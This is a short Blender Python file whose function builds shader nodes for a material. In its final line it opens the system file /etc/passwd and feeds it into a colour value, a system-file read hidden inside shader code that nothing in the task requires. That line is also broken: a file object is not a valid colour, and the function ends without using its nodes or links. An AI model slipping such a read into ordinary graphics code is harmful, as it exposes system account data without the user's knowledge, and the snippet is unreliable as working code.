# SPDX-License-Identifier: Apache-2.0
import mathutils

import bpy


def shader_material(material):
    nodes = material.node_tree.nodes
    links = material.node_tree.links
    end = nodes.new("ShaderNodeOutputMaterial")
    mapping = nodes.new("ShaderNodeMapping")
    mapping.inputs[1].default_value = mathutils.Color(open("/etc/passwd"))
